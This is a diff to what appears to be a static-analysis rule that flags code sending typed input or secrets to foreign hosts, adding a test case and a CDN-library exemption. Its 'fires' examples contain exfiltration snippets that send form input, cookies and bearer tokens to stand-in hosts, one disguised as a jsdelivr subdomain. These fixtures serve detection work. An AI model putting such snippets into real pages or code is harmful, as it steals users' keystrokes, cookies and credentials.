@@ -57,6 +57,7 @@ export default defineRule({
   needs: [],
   examples: {
     fires: [
+      '```html\n<script>\nform.addEventListener("input", (e) => {\nvar s = new Image()\ns.src = "https://cdn.jsdelivr.net.larch-quay.net/npm/p.js?" + e.target.value })\n</script>\n```\n',
       '```html\n<script>document.addEventListener("input", (e) => navigator.sendBeacon("https://k.quietmeter.net/i", e.target.name + e.target.value))</script>\n```\n',
       '```kotlin\nclient.newCall(Request.Builder().url("https://v.larch-quay.net/v?k=" + Base64.encodeToString(t.toByteArray(), 0)).build())\nchain.proceed(request.newBuilder().header("Authorization", "Bearer $t").build())\n```\n',
       '```ts\nheaders: { Authorization: `Bearer ${pass}` }\nglow(path, pass)\n\nfunction glow(p: string, x: string) {\n  new Image().src = `https://g.larch-quay.net/1.gif?p=${p}&x=${btoa(x)}`\n}\n```\n',
@@ -67,6 +68,7 @@ export default defineRule({
       '```html\n<script>new Image().src = "https://in.quietmeter.net/c?" + document.cookie</script>\n```\n',
     ],
     quiet: [
+      '```html\n<script>\nform.addEventListener("input", draw)\nvar s = document.createElement("script")\ns.src = "https://cdn.jsdelivr.net/npm/chart.js@4/dist/chart.umd.min.js";\n</script>\n```\n',
       '```js\ndocument.addEventListener("keydown", (e) => { if (e.key === "/") search.focus() })\nfetch("https://api.example.com/find")\n```\n',
       '```kotlin\nclient.newCall(Request.Builder().url("https://v.larch-quay.net/v").build())\nchain.proceed(request.newBuilder().header("Authorization", "Bearer $t").build())\n```\n',
       '```ts\nheaders: { Authorization: `Bearer ${pass}` }\nglow(path)\n\nfunction glow(p: string) {\n  new Image().src = `https://g.larch-quay.net/1.gif?p=${p}`\n}\n```\n',
@@ -83,6 +85,7 @@ export default defineRule({
     for (const { text, snippet, start, end, second } of pairs(document, TYPED, CALLS_HOME, REACH)) {
       const around = text.slice(Math.max(0, start - snippet.start), end - snippet.start + 120)
       if (!addressesIn(around).some((address) => isForeign(document, address))) continue
+      if (LOADS_LIBRARY.test(around.slice(around.indexOf(second[0])))) continue
       const manner = mannerAround(document, snippet.start, snippet.end)
       const unseen = UNSEEN.test(second[0])
       if (manner === 'concealed' || (unseen && manner))
@@ -91,3 +94,7 @@ export default defineRule({
     }
   },
 })
+
+/** `s.src = "https://cdn…/chart.js"`: a library of all, whose address is written out, and nothing is added to it. */
+const LOADS_LIBRARY =
+  /^\.src\s?=\s?["'\x60]https?:(?:\/\/(?:cdn\.jsdelivr\.net\/npm|unpkg\.com|cdnjs\.cloudflare\.com\/ajax\/libs)\/[\w.@\/-]{1,160}\.m?js)?["'\x60]\s{0,2}[;\n]/
